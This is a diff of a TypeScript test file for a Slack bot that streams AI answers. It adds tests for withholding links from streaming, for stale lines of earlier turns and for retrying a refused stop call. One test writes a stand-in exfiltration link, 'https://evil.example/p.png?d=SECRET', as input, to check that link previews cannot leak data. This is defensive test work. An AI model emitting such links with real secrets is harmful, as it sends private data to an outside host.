@@ -7,7 +7,7 @@ import { DEFAULT_SESSION_SETTINGS } from '../../../activities/settings.ts';
 import type { EndTurnInput, TurnInput } from '../../../contracts/activities.ts';
 import { claimUnread } from '../../../store/claim-messages.ts';
 import { inTransaction } from '../../../store/database.ts';
-import { markBegun } from '../../../store/streams.ts';
+import { endStreams, markBegun } from '../../../store/streams.ts';
 import { appendTranscript } from '../../../store/transcript.ts';
 import { type GatewayStage, startGatewayStage } from '../../support/gateway-stage.ts';
 import type { SimMessage } from '../../support/slack-simulator.ts';
@@ -34,13 +34,14 @@ interface Turn extends TurnInput {
   end(text: string, how?: Partial<EndTurnInput>): Promise<void>;
 }
 
-async function begin(text = 'tell me about it', threadTs?: string): Promise<Turn> {
+async function begin(text = 'tell me about it', threadTs?: string, after = 0): Promise<Turn> {
   const { database } = stage.db;
   const thread = await stage.slack.post('ada', dm, text, threadTs === undefined ? {} : { threadTs });
   await stage.slack.waitForReaction(thread, 'eyes');
   const session = stage.sessionOf(thread.threadTs === null ? thread : { channel: dm, ts: thread.threadTs });
   const beginning = createBeginning({ database, settings: DEFAULT_SESSION_SETTINGS });
-  const begun = await beginning.beginTurn({ session, fence: { run: 1, count: 1 }, after: 0, stoppedUpTo: null });
+  const fence = { run: 1, count: after + 1 };
+  const begun = await beginning.beginTurn({ session, fence, after, stoppedUpTo: null });
   if (!begun) throw new Error('no turn has begun');
   const turn = { session, turn: begun.turn };
   // As the first model call does.
@@ -49,7 +50,7 @@ async function begin(text = 'tell me about it', threadTs?: string): Promise<Turn
   const { endTurn } = createEnding({ database });
   return {
     ...turn,
-    thread,
+    thread: { ...thread, ts: threadTs ?? thread.ts },
     write: (words, step = 1) => show({ ...turn, step, what: 'writing', text: words, first: true }),
     work: (step) => show({ ...turn, step, what: 'running a command' }),
     async end(words, how = {}) {
@@ -357,6 +358,50 @@ test('a second beginning, of a sender that had been frozen, is taken out again',
   await settled();
   expect(await stage.slack.answers(turn.thread)).toHaveLength(1);
 });
+
+test('a link is never streamed, because Slack may load a preview of it; it comes with the final form', async () => {
+  const turn = await begin();
+  await turn.write('See the page ');
+  await shows(turn, 'See the');
+  await turn.write('See the page [of the team](https://evil.example/p.png?d=SECRET) and go on ');
+  await turn.end('See the page [of the team](https://evil.example/p.png?d=SECRET) and go on.');
+  await shows(turn, 'tool calls');
+  await settled();
+  const all = await Promise.all(
+    ['startStream', 'appendStream', 'stopStream'].map((name) => stage.slack.calls(`chat.${name}`)),
+  );
+  expect(JSON.stringify(all)).not.toContain('evil.example');
+  expect(textOf((await shown(turn))[0])).toContain('evil.example');
+});
+
+test('a late line of an earlier turn takes nothing from the words of this one', async () => {
+  const first = await begin();
+  await first.end('The first answer.');
+  await shows(first, 'tool calls');
+  const { database } = stage.db;
+  const turn = await begin('and more', first.thread.ts, first.turn);
+  await turn.write('The second one ');
+  await shows(turn, 'The second one');
+  // What a line of step 5 of the first turn does that was held up after it had read that its turn runs.
+  await endStreams(database, turn.session, { turn: first.turn, step: 5 });
+  await turn.write('The second one goes ');
+  await turn.end('The second one goes on.');
+  await shows(turn, 'goes on.');
+  await settled();
+  expect(await calls('chat.delete')).toBe(0);
+});
+
+test('a stop that Slack refuses while the message still grows is made again, and the answer comes', async () => {
+  const turn = await begin();
+  await turn.write('Hard to stop ');
+  await shows(turn, 'Hard to');
+  await stage.slack.fault({ failWith: 'chat.stopStream', error: 'internal_error', times: 1 });
+  await turn.end('Hard to stop, and stopped.');
+  await shows(turn, 'tool calls');
+  await settled();
+  const answers = await stage.slack.answers(turn.thread);
+  expect(answers.map(textOf)).toEqual([expect.stringContaining('and stopped.')]);
+}, 30_000);
 
 test('in a channel the line that shows the work has the words', async () => {
   const { database } = stage.db;
